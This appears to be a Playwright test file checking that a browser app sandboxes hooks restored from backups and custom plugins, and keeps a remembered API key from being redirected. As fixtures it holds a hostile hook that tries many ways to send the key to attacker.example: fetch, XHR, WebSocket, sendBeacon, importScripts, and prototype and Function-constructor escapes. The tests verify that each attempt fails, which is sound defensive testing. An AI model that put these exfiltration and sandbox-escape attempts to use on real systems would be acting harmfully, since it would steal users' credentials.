/**
 * A restored backup carries a hook that would steal the remembered key (the reported attack): in the
 * real built page it is restored disabled and shown with its source, and once the user enables it
 * every way out (fetch, XMLHttpRequest, WebSocket, importScripts, indexedDB, ...) fails inside its
 * sandbox worker, the failure is shown with the run, and the attacker's server hears nothing.
 */
import { readFileSync } from 'node:fs';
import { expect, sample, test } from './fixtures/app.ts';
import { storedPreferences } from './fixtures/stored-rows.ts';
import type { Page } from '@playwright/test';

const CLAUDE = sample('claude-code/37f83ec9-f2ea-42a9-925e-0d5c105cb6e8.jsonl');
const KEY = 'sk-canary-remembered-5e0c';

/** Tries every way out; throws what each attempt did, so the page shows it. */
const HOSTILE_HOOK = `export async function beforeCompact() {
  const out = {};
  const steal = 'https://attacker.example/collect';
  const attempts = {
    fetch: () => fetch(steal, { method: 'POST', body: 'key' }),
    XMLHttpRequest: () => { const x = new XMLHttpRequest(); x.open('POST', steal); x.send('key'); },
    WebSocket: () => new WebSocket('wss://attacker.example/ws'),
    EventSource: () => new EventSource(steal),
    importScripts: () => importScripts(steal),
    indexedDB: () => indexedDB.open('foldlab-secrets'),
    caches: () => caches.open('x'),
    sendBeacon: () => navigator.sendBeacon(steal, 'key'),
    Worker: () => new Worker(steal),
    prototype: () => Object.getPrototypeOf(globalThis).fetch(steal),
    selfConstructor: () => self.constructor.prototype.fetch(steal),
    functionConstructor: () => (function () {}).constructor('return fetch')()(steal),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      out[name] = 'WENT THROUGH';
    } catch (error) {
      out[name] = error.message;
    }
  }
  const names = [];
  for (let o = globalThis; o && o !== Object.prototype; o = Object.getPrototypeOf(o)) names.push(...Object.getOwnPropertyNames(o));
  throw new Error('sandbox ' + JSON.stringify({ out, names }));
}`;

async function openClaude(page: Page) {
  await page.getByTestId('import.input').setInputFiles(CLAUDE);
  const id = () => page.evaluate(() => (window as unknown as { __foldlab?: { imports: Array<{ conversation: { id: string; fileName: string } }> } }).__foldlab?.imports.find((o) => o.conversation.fileName.startsWith('37f83ec9'))?.conversation.id);
  await expect.poll(id, { timeout: 45_000 }).toBeTruthy();
  await page.locator(`[data-conversation-id="${await id()}"]`).getByTestId('library.item.open').click();
  await expect(page.getByTestId('conversation.meta')).toContainText('37f83ec9', { timeout: 15_000 });
}

test('a restored backup\'s hook is disabled until enabled, and then reaches neither the network nor the key', async ({ app, page }, testInfo) => {
  test.slow();
  const heard: string[] = [];
  await page.context().route(/attacker\.example/, async (route) => {
    heard.push(route.request().url());
    await route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: 'ok' });
  });
  await app.waitForDemo();
  // A key remembered on this device: what the hook is after.
  await page.getByTestId('settings.open').click();
  await page.getByTestId('settings.kind.remote').check();
  await page.getByTestId('settings.remote.preset').selectOption('openai');
  await page.getByTestId('settings.remote.key').fill(KEY);
  await page.getByTestId('settings.remote.remember').check();
  await page.getByTestId('settings.kind.offline').check();
  await page.getByTestId('settings.close').click();

  await openClaude(page);
  await page.getByTestId('tab.compact').click();
  await page.getByTestId('compact.strategy.pi').check();
  await page.locator('details.hooks > summary').click();
  // The backup's author had this hook in their preferences: make such a backup with the page itself.
  await page.getByTestId('compact.hooks').fill(HOSTILE_HOOK);
  // The backup carries the library copy of the preferences, written a moment after a change.
  await expect.poll(() => storedPreferences(page), { timeout: 30_000 }).toContain('attacker.example');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('library.backup').click()]);
  const file = testInfo.outputPath('hostile-backup.jsonl');
  await download.saveAs(file);
  expect(readFileSync(file, 'utf8')).toContain('attacker.example');
  await page.getByTestId('compact.hooks.clear').click();

  await page.getByTestId('library.restore-input').setInputFiles(file);
  await expect(page.getByTestId('library.backup-status')).toContainText('kept disabled under Compact', { timeout: 30_000 });
  await page.getByTestId('tab.compact').click();
  await expect(page.getByTestId('compact.hooks.summary')).toContainText('a restored hook module waits, disabled');
  await expect(page.getByTestId('compact.hooks')).toHaveValue('');
  await expect(page.getByTestId('compact.hook.restored-source')).toContainText('attacker.example/collect');

  // Not enabled: Compact runs without it.
  await expect(page.getByTestId('compact.run')).toBeEnabled({ timeout: 30_000 });
  await page.getByTestId('compact.run').click();
  await expect(page.getByTestId('run')).toBeVisible({ timeout: 60_000 });
  expect(heard).toEqual([]);

  // Enabled: it runs, and every way out fails inside its sandbox; the failure is shown.
  await page.getByTestId('tab.compact').click();
  await page.getByTestId('compact.hook.restored-enable').click();
  await expect(page.getByTestId('compact.hooks')).toHaveValue(HOSTILE_HOOK);
  // From the session's start again, not from the run just made (which left nothing to do).
  await page.getByTestId('compact.continue').uncheck();
  await expect(page.getByTestId('compact.run')).toBeEnabled({ timeout: 30_000 });
  await page.getByTestId('compact.run').click();
  const error = page.getByTestId('compact.error');
  await expect(error).toContainText('The before-compact hook threw: sandbox', { timeout: 30_000 });
  const text = (await error.textContent()) ?? '';
  const report = JSON.parse(/sandbox (\{.*\})/.exec(text)![1]!) as { out: Record<string, string>; names: string[] };
  for (const [name, outcome] of Object.entries(report.out)) expect(outcome, name).not.toBe('WENT THROUGH');
  for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'indexedDB']) expect(report.out[name], name).toContain(`${name} is not defined`);
  expect(report.out.functionConstructor).toContain('Compiling code from a string is not available');
  for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'indexedDB', 'caches', 'navigator', 'Worker', 'self', 'postMessage', 'Blob', 'eval', 'Function']) {
    expect(report.names, name).not.toContain(name);
  }
  expect(heard).toEqual([]);
});

test('a restored backup cannot redirect the remembered key: its endpoints apply only when confirmed, and the key is refused anywhere but where it was entered', async ({ app, page }, testInfo) => {
  test.slow();
  const heard: string[] = [];
  await page.context().route(/attacker\.example/, async (route) => {
    heard.push(route.request().url());
    await route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: 'ok' });
  });
  await app.waitForDemo();
  await page.getByTestId('settings.open').click();
  await page.getByTestId('settings.kind.remote').check();
  await page.getByTestId('settings.remote.preset').selectOption('openai');
  await page.getByTestId('settings.remote.model').fill('gpt-4o-mini');
  await page.getByTestId('settings.remote.key').fill(KEY);
  await page.getByTestId('settings.remote.remember').check();
  // The backup's author pointed the openai preset elsewhere: the key is not offered there.
  await page.getByTestId('settings.remote.base-url').fill('https://attacker.example/v1');
  await expect(page.getByTestId('settings.remote.key')).toHaveValue('');
  await expect(page.getByTestId('settings.remote.key-again')).toContainText('saved for https://api.openai.com');
  await page.getByTestId('settings.remote.save').click();
  await page.getByTestId('settings.close').click();
  await expect.poll(() => storedPreferences(page), { timeout: 30_000 }).toContain('https://attacker.example/v1');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('library.backup').click()]);
  const file = testInfo.outputPath('redirecting-backup.jsonl');
  await download.saveAs(file);
  await page.getByTestId('settings.open').click();
  await page.getByTestId('settings.remote.base-url').fill('https://api.openai.com/v1');
  await expect(page.getByTestId('settings.remote.key')).toHaveValue(KEY);
  await page.getByTestId('settings.remote.save').click();
  await page.getByTestId('settings.close').click();

  // Restored as data only: this browser's endpoint stays.
  await page.getByTestId('library.restore-input').setInputFiles(file);
  await expect(page.getByTestId('library.backup-status')).toContainText('Your provider settings were kept', { timeout: 30_000 });
  await page.getByTestId('settings.open').click();
  await expect(page.getByTestId('settings.remote.base-url')).toHaveValue('https://api.openai.com/v1');
  await page.getByTestId('settings.close').click();

  // "Restore settings too": the endpoint is shown first; applied only when confirmed.
  await page.getByTestId('library.restore-settings').check();
  await page.getByTestId('library.restore-input').setInputFiles(file);
  await expect(page.getByTestId('library.restore-endpoints')).toContainText('https://attacker.example/v1');
  await page.getByTestId('library.restore-endpoints.apply').click();
  await expect(page.getByTestId('library.backup-status')).toContainText('provider settings were applied', { timeout: 30_000 });

  // Even then the remembered key does not follow the base URL.
  await page.reload();
  await openClaude(page);
  await page.getByTestId('tab.compact').click();
  await page.getByTestId('compact.strategy.pi').check();
  await expect(page.getByTestId('compact.run')).toBeEnabled({ timeout: 30_000 });
  await page.getByTestId('compact.run').click();
  await expect(page.getByTestId('compact.error')).toContainText('was saved for https://api.openai.com, but this request goes to https://attacker.example, so it was not sent', { timeout: 30_000 });
  expect(heard).toEqual([]);
});

test('a custom-strategy plugin has no network and no storage either: each attempt fails and is shown', async ({ app, page }) => {
  const heard: string[] = [];
  await page.context().route(/attacker\.example/, async (route) => {
    heard.push(route.request().url());
    await route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: 'ok' });
  });
  await app.importFile(CLAUDE);
  await page.getByTestId('tab.compact').click();
  await page.getByTestId('compact.strategy.custom').check();
  const attempts: Array<[string, string]> = [
    ['fetch("https://attacker.example/p")', 'fetch is not defined'],
    ['new XMLHttpRequest()', 'XMLHttpRequest is not defined'],
    ['new WebSocket("wss://attacker.example/ws")', 'WebSocket is not defined'],
    ['importScripts("https://attacker.example/x.js")', 'importScripts is not defined'],
    ['indexedDB.open("foldlab-secrets")', 'indexedDB is not defined'],
    ['import("https://attacker.example/x.js")', 'uses `import`'],
  ];
  for (const [call, expected] of attempts) {
    await page.getByTestId('compact.plugin').fill(`export default function plan(entries) {\n  ${call};\n  return { keep: [] };\n}`);
    await expect(page.getByTestId('plan.error')).toContainText(expected, { timeout: 30_000 });
  }
  expect(heard).toEqual([]);
});
